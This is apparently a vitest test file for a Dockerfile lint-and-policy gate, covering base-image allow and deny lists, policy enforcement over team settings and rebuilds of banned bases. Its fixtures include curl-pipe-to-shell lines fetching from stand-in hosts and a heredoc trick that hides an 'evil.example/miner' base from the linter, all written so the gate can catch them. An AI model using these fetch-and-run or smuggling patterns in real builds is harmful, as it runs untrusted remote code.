import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BUILDAH_1_28, BUILDKIT } from '../../../core/dockerfile/builder-profile.js';
import { gateDefinition, lintPolicyFor, policyFindings } from '../../../core/gate/gate-definition.js';
import { DEFAULT_CONFIG } from '../../../core/lint/config.js';
import { parsePolicy } from '../../../core/policy/parse-policy.js';

const policy = parsePolicy(readFileSync(join(import.meta.dirname, '../../../examples/policy.yaml'), 'utf8'));
const now = new Date('2026-11-27T12:00:00Z');
const gate = (text: string, extra: Partial<Parameters<typeof gateDefinition>[0]> = {}) =>
  gateDefinition({ text, file: 'Dockerfile', project: 'web', policy, now, ...extra });

const CLEAN = 'FROM node:20-bookworm-slim\nUSER 1000\nHEALTHCHECK NONE\nCMD ["node", "server.js"]\n';

describe('gateDefinition', () => {
  it('fails a Dockerfile too large to lint without parsing it', () => {
    // 20,000 RUN lines (900 KB) held the gate for 64 s on the daemon's thread (rules that compare each instruction
    // with every other grow with the square of the file), and the gate reads a definition of up to 64 MB.
    const text = `FROM node:20-bookworm-slim\nUSER 1000\n${'RUN echo hello world && ls -la /tmp | grep x\n'.repeat(6000)}`;
    const v = gate(text);
    expect(v.passed).toBe(false);
    expect(v.findings).toEqual([
      expect.objectContaining({
        code: 'DD000',
        level: 'error',
        message: `the file has ${text.length} characters, more than the 131072 a Dockerfile may have; it was not parsed`,
      }),
    ]);
  });

  it('passes a clean definition on a whitelisted base', () => {
    const v = gate(CLEAN);
    expect(v.passed).toBe(true);
    expect(v.findings).toEqual([]);
    expect(v.bases).toEqual([expect.objectContaining({ outcome: 'allowed', entry: 'allowed[3]' })]);
    expect(v.substituted).toBeUndefined();
  });

  it('fails on a lint finding at or above the threshold, and not below it', () => {
    const text = 'FROM node:20-bookworm-slim\nUSER 1000\nCMD node server.js\n';
    expect(gate(text).passed).toBe(false);
    const lenient = { ...policy, gate: { failureThreshold: 'error' as const, enforce: [] } };
    expect(
      gate(text, { policy: lenient, config: { ...DEFAULT_CONFIG, failureThreshold: 'error' } }).passed,
    ).toBe(true);
  });

  it('keeps the policy in charge: a team config cannot loosen the threshold, turn failures off or ignore enforced rules', () => {
    const text =
      'FROM node:20-bookworm-slim\nUSER 1000\n# drydock ignore=DD110\nRUN curl -fsSL https://x.example/i.sh | sh\n';
    const strict = { ...policy, gate: { failureThreshold: 'warning' as const, enforce: ['DD110'] } };
    const loose = { ...DEFAULT_CONFIG, failureThreshold: 'none' as const, ignored: ['DD110'], noFail: true };
    const v = gate(text, { policy: strict, config: loose });
    expect(v.passed).toBe(false);
    expect(v.findings.map((f) => f.code)).toContain('DD110');
    expect(
      gate('FROM node:20-bookworm-slim\nUSER 1000\nCMD node server.js\n', { policy: strict, config: loose })
        .passed,
    ).toBe(false);
  });

  it('lets a team be stricter than the policy', () => {
    // Only info findings (DD119: no HEALTHCHECK).
    const text = 'FROM node:20-bookworm-slim\nUSER 1000\nCMD ["node", "a.js"]\n';
    const infoFindings = gate(text).findings.filter((f) => f.level === 'info');
    expect(infoFindings.length).toBeGreaterThan(0);
    expect(gate(text).passed).toBe(true);
    expect(gate(text, { config: { ...DEFAULT_CONFIG, failureThreshold: 'info' } }).passed).toBe(false);
  });

  it('fails on a denied base even when the lint is clean', () => {
    const v = gate('FROM alpine:3.20\nUSER 1000\nCMD ["sh"]\n');
    expect(v.findings.filter((f) => f.level === 'error' || f.level === 'warning')).toEqual([]);
    expect(v.passed).toBe(false);
    expect(v.bases[0]).toMatchObject({ outcome: 'denied' });
  });

  it('passes a substituted base and rewrites only the reference', () => {
    const text = 'FROM node:18-alpine AS build\nUSER 1000\nCMD ["node", "a.js"]\n';
    const v = gate(text);
    expect(v.passed).toBe(true);
    expect(v.substituted).toBe(text.replace('node:18-alpine', 'docker.io/library/node:20-bookworm-slim'));
  });

  it('fails a definition with an unresolvable base or with no FROM at all', () => {
    expect(gate('ARG BASE\nFROM ${BASE}\nUSER 1000\n')).toMatchObject({ passed: false });
    const noFrom = gate('# just a comment\nRUN echo hi\n');
    expect(noFrom.passed).toBe(false);
    expect(noFrom.unresolved[0]?.reason).toContain('no FROM instruction');
  });

  it('fails an empty file with a syntax finding', () => {
    const v = gate('');
    expect(v.passed).toBe(false);
    expect(v.findings.map((f) => f.code)).toEqual(['DD000']);
  });

  it('lints with the policy: insecure package versions are findings', () => {
    const v = gate(
      'FROM debian:bookworm\nRUN apt-get update && apt-get install -y --no-install-recommends openssl=1.0.1f-1\n',
    );
    expect(v.findings.map((f) => f.code)).toContain('DD107');
  });

  it('turns policy outcomes into findings for formats that only know findings', () => {
    const v = gate('FROM debian:buster\nFROM alpine:3.20\nUSER 1000\n');
    expect(policyFindings(v).map((f) => [f.code, f.line])).toEqual([
      ['DD201', 1],
      ['DD200', 2],
    ]);
  });
});

describe('lintPolicyFor', () => {
  it('answers insecure package versions with the advisory, and nothing for safe ones', () => {
    const lint = lintPolicyFor(policy);
    expect(lint.insecure?.('apt', 'openssl', '1.0.1f-1')).toBe('CVE-2014-0160');
    expect(lint.insecure?.('apt', 'openssl', '3.0.11-1')).toBeUndefined();
    expect(lint.trustedRegistries).toEqual(['127.0.0.1:5000', 'docker.io']);
  });
});

describe('gateDefinition judges what the builder builds', () => {
  // Issue 8: buildah 1.28 has no heredocs, so the body is instructions to it and `#` a comment: the image is
  // built on evil.example/miner, a base neither the linter nor the policy saw.
  const hidden =
    'FROM node:20-bookworm-slim\nUSER 1000\nRUN true <<\'#\'\nFROM evil.example/miner:1\nRUN curl -k https://x.example/i | sh\n#\nCMD ["node", "server.js"]\n';

  it('refuses a heredoc for the local builder, naming the line buildah would run', () => {
    const v = gate(hidden, { builders: [BUILDAH_1_28] });
    expect(v.passed).toBe(false);
    expect(v.findings).toContainEqual(
      expect.objectContaining({
        code: 'DD004',
        level: 'error',
        line: 3,
        message: expect.stringContaining(
          'the local builder (buildah 1.28) does not support heredocs and would read the body as instructions (line 4: `FROM evil.example/miner:1`)',
        ),
      }),
    );
  });

  it('refuses it by default, and passes it for BuildKit, which reads the body as the gate does', () => {
    expect(gate(hidden).findings.map((f) => f.code)).toContain('DD004');
    const v = gate(hidden, { builders: [BUILDKIT] });
    expect(v.findings.filter((f) => f.code === 'DD004')).toEqual([]);
    expect(v.passed).toBe(true);
  });

  it('refuses a team that ignores DD001 to hide a RUN the shell parser rejects', () => {
    const text =
      'FROM node:20-bookworm-slim\nUSER 1000\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n';
    const team = {
      ...DEFAULT_CONFIG,
      failureThreshold: 'none' as const,
      ignored: ['DD001'],
      overrides: { DD001: 'info' as const },
    };
    const v = gate(text, { config: team });
    expect(v.passed).toBe(false);
    expect(v.findings).toContainEqual(expect.objectContaining({ code: 'DD001', level: 'error', line: 4 }));
    expect(v.findings).toContainEqual(expect.objectContaining({ code: 'DD002', line: 3 }));
  });
});

describe("gateDefinition for a ban's rebuild", () => {
  const HOST = '127.0.0.1:5000';
  const DIGEST = `sha256:${'a'.repeat(64)}`;
  // The ban is in the policy by the time its rebuilds are gated: busybox 1.36.0 and debian bookworm-20240101.
  const banned = {
    ...policy,
    banned: [
      ...policy.banned,
      { image: `${HOST}/base/busybox:1.36.0`, reason: 'CVE-2026-0001' },
      { image: `${HOST}/base/debian:bookworm-20240101`, reason: 'CVE-2026-0002' },
    ],
  };
  const text = `FROM ${HOST}/base/busybox:1.36.0 AS tools\nFROM ${HOST}/base/debian:bookworm\nCOPY --from=tools /bin/busybox /bin/busybox\nUSER 1000\n`;
  const rebuild = {
    banId: 'ban-1',
    substitutions: [
      { from: `${HOST}/base/busybox:1.36.0`, to: `${HOST}/base/busybox:1.36.1@${DIGEST}`, rule: 'banned[2]' },
    ],
  };

  it('rewrites the uses its substitutions name before the policy judges the rest', () => {
    expect(gate(text, { policy: banned }).bases[0]).toMatchObject({ outcome: 'denied', code: 'banned' });
    const v = gate(text, { policy: banned, rebuild });
    expect(v.passed).toBe(true);
    expect(v.bases).toEqual([
      expect.objectContaining({
        outcome: 'substituted',
        from: `${HOST}/base/busybox:1.36.0`,
        to: `${HOST}/base/busybox:1.36.1@${DIGEST}`,
        rule: 'banned[2]',
      }),
      expect.objectContaining({ outcome: 'allowed', ref: `${HOST}/base/debian:bookworm` }),
    ]);
    expect(v.substituted).toBe(text.replace('busybox:1.36.0', `busybox:1.36.1@${DIGEST}`));
    expect(policyFindings(v)).toContainEqual(expect.objectContaining({ code: 'DD201', line: 1 }));
  });

  it('still denies a banned base that no substitution of the rebuild names', () => {
    const other = text.replace('debian:bookworm', 'debian:bookworm-20240101');
    const v = gate(other, { policy: banned, rebuild });
    expect(v.passed).toBe(false);
    expect(v.bases[0]).toMatchObject({ outcome: 'substituted' });
    expect(v.bases[1]).toMatchObject({
      outcome: 'denied',
      code: 'banned',
      ref: `${HOST}/base/debian:bookworm-20240101`,
    });
    expect(v.substituted).toContain(`${HOST}/base/debian:bookworm-20240101\n`);
  });

  it("lints the team's text, not the rewritten one", () => {
    // The team wrote no tag (DL3006); the rewritten text has one, but the finding is the team's to fix.
    const untagged = `FROM ${HOST}/base/busybox\nUSER 1000\n`;
    const latest = {
      banId: 'ban-1',
      substitutions: [
        { from: `${HOST}/base/busybox:latest`, to: `${HOST}/base/busybox:1.36.1`, rule: 'banned[2]' },
      ],
    };
    const v = gate(untagged, { policy: banned, rebuild: latest });
    expect(v.substituted).toBe(`FROM ${HOST}/base/busybox:1.36.1\nUSER 1000\n`);
    expect(v.findings).toContainEqual(expect.objectContaining({ code: 'DL3006', line: 1 }));
    expect(v.findings).toEqual(gate(untagged, { policy: banned }).findings);
  });
});
